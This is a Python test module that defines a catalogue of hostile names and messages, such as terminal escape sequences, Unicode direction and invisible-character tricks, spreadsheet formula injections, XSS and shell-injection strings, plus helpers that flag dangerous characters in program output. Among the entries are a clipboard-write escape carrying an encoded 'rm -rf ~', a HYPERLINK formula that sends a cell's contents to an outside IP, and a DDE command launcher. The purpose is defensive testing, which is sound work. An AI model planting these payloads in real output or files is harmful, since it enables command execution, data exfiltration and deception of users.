"""Names, tags and messages as an intruder might write them, and what no output may hold of them.

What is looked for is written down here by itself, not taken from the program: the one is held against the other.
"""

from __future__ import annotations

import re
import unicodedata

from hypothesis import strategies as st

HOSTILE = {
    "colour": "\x1b[31mred\x1b[0m",
    "clear the screen": "a\x1b[2J\x1b[1;1Hb",
    "title": "\x1b]0;pwned\x07",
    "link": "\x1b]8;;http://203.0.113.1/\x1b\\click\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "end of a paste": "x\x1b[201~\nid\n",
    "C1 CSI": "\x9b31mred\x9b0m",
    "C1 OSC": "\x9d0;pwned\x9c",
    "DEL and backspaces": "good\x7f\x08\x08\x08\x08evil",
    "NUL": "a\x00b",
    "new line": "web\nsuccess: 120 changed",
    "carriage return": "failed\rchanged",
    "all line ends": "a\x0bb\x0cc\x1cd\x1de\x1ef\x85g\u2028h\u2029i",
    "tabs": "a\tb\t\tc",
    "override": "\u202egpj.exe\u202c",
    "embedding": "\u202aa\u202bb\u202cc\u202dd",
    "isolates": "\u2066a\u2067b\u2068c\u2069d",
    "marks of direction": "a\u200eb\u200fc\u061cd",
    "zero width": "we\u200bb\u200c-\u200d0\u20601\ufeff",
    "soft hyphen": "we\xadb",
    "tag characters": "web\U000e0049\U000e0047\U000e004e\U000e007f",
    "fillers": "\u115f\u1160\u3164\uffa0",
    "grapheme joiner": "a\u034fb",
    "selectors": "a\ufe00b\ufe0fc\U000e0100d\u180be",
    "blank signs": "a\u2800\u2800b\U0001d159",
    "blanks": "a\xa0b\u2003c\u3000d\u202fe\u205ff\u1680g",
    "annotations": "a\ufff9b\ufffac\ufffb",
    "private": "a\ue000b\U000f0000c",
    "a mark of ours": "\ue000Nope\ue001",
    "no character": "a\ufdd0b\U0001fffec",
    "half a character": "a\ud800b\udfffc",
    "family": "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "heart": "\u2764\ufe0f\u200d\U0001f525",
    "keycap": "1\ufe0f\u20e3",
    "skin tone": "\U0001f44d\U0001f3fd",
    "flag": "\U0001f1e9\U0001f1ea",
    "emoji": "\U0001f600\U0001f680",
    "wide": "日本語のサーバー",
    "fullwidth": "ｗｅｂ",
    "zalgo": "w" + "\u0301\u0316\u0334" * 20 + "eb",
    "a mark in front": "\u0301\u0338web",
    "a mark on a blank": "a \u0336\u0336b",
    "a mark on a slash": "a/\u0338b",
    "Hebrew": "שרת 12",
    "Arabic": "خادم (3)",
    "Devanagari": "सर्वर",
    "rich markup": "[red]x[/red][link=http://203.0.113.1]y[/link][/] :smile:",
    "formula": "=HYPERLINK(\"http://203.0.113.1/?\"&A1)",
    "formula plus": "+cmd|' /C calc'!A0",
    "formula minus": "-2+3",
    "formula at": "@SUM(1)",
    "formula tab": "\t=1+1",
    "formula return": "\r=1+1",
    "formula blank": " \xa0=1+1",
    "formula hidden": "\u200b\ufeff=1+1",
    "formula quoted": "\"=1+1\"",
    "formula apostrophe": "'=1+1",
    "formula wide": "＝1+1",
    "formula wide plus": "＋1",
    "formula wide minus": "－1",
    "formula wide at": "＠x",
    "formula small": "﹦1﹢1",
    "formula next cell": "x;=1+1",
    "formula next cell quoted": "x;\"=1+1",
    "formula next line": "x\n=1+1",
    "script": "<script>alert(1)</script>",
    "image": "</style></title><img src=x onerror=alert(1)>",
    "attribute": "\" onmouseover=\"alert(1)\" x='",
    "address": "<a href=javascript:alert(1)>x</a>",
    "style": "<style>*{display:none}</style>",
    "comment": "--><!--",
    "cdata": "]]><![CDATA[",
    "entity": "&lt;b&gt;&#27;&amp;",
    "closing cells": "</td></tr></table>",
    "JSON": '","outcome":"changed","x":"',
    "command substitution": "$(touch x)`touch y`",
    "command": "'; touch x; echo '",
    "history": "!!\n!$",
    "option": "--yes",
    "backslashes": "\\n\\x1b\\u202e\\",
    "format": "{title}%s{0}",
    "256 letters": "x" * 256,
    "256 wide": "漢" * 256,
    "256 escapes": "\x1b[1m" * 64,
    "256 blanks": " " * 256,
    "mixed": "\u202e=\x1b[31m<b>\n'\"$(id)\u200b\ud800日\u0301\t[red];=1",
}  # fmt: skip

_PIECES = sorted({char for each in HOSTILE.values() for char in each} | set("abc019 -._/:=,;#~^|&*?(){}"))
# A class of its own for each of them comes up too seldom among all code points.
hostile = st.one_of(
    st.sampled_from(sorted(HOSTILE.values())),
    st.lists(st.sampled_from([*HOSTILE.values(), *_PIECES]), max_size=12).map(lambda each: "".join(each)[:256]),
    st.text(st.sampled_from(_PIECES), max_size=256),
    st.text(st.characters(codec=None), max_size=40),
)

# Default_Ignorable_Code_Point of Unicode's DerivedCoreProperties.txt, and what is drawn as nothing.
_IGNORABLE = re.compile(
    "[\xad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180f\u200b-\u200f\u202a-\u202e\u2060-\u206f\u3164\ufe00-\ufe0f"
    "\ufeff\uffa0\ufff0-\ufff8\U0001bca0-\U0001bca3\U0001d173-\U0001d17a\U000e0000-\U000e0fff\u2800\U0001d159]"
)
_COLOUR = re.compile(r"\x1b\[[0-9;]*m")


def raw(text: str, *, colours: bool = False, marks: bool = True) -> list[str]:
    """What ``text`` has that would act upon a terminal, reorder, hide, or break lines; nothing, if it is harmless.

    Line feeds are looked for by whoever counts lines. With ``colours``, rich's own sequences are no fault;
    without ``marks``, letters may carry as many as they like.
    """
    if colours:
        text = _COLOUR.sub("", text)
    found = sorted(
        f"U+{ord(char):04X}"
        for char in set(text) - {" ", "\n"}
        if unicodedata.category(char)[0] in "CZ" or _IGNORABLE.match(char)
    )
    if marks:
        found += [f"marks at {each.start()}" for each in _PILES.finditer(text)]
    return found


_MARK = "".join(
    char for char in map(chr, range(0x300, 0x1E95A)) if unicodedata.category(char)[0] == "M" and char.isprintable()
)
# More marks than any script puts on a letter, and such as have no letter.
_PILES = re.compile(f"[{_MARK}]{{5,}}|(?:^|(?<=[ \n]))[{_MARK}]", re.MULTILINE)


def told(text: str) -> str:
    """``text`` as it was before it was made visible; a backslash of its own cannot be told apart."""
    return re.sub(
        r"\\(?:([nrt])|x([0-9a-f]{2})|u([0-9a-f]{4})|U([0-9a-f]{8}))",
        lambda found: (
            {"n": "\n", "r": "\r", "t": "\t"}.get(found[1]) or chr(int(found[2] or found[3] or found[4], 16))
        ),
        text,
    )
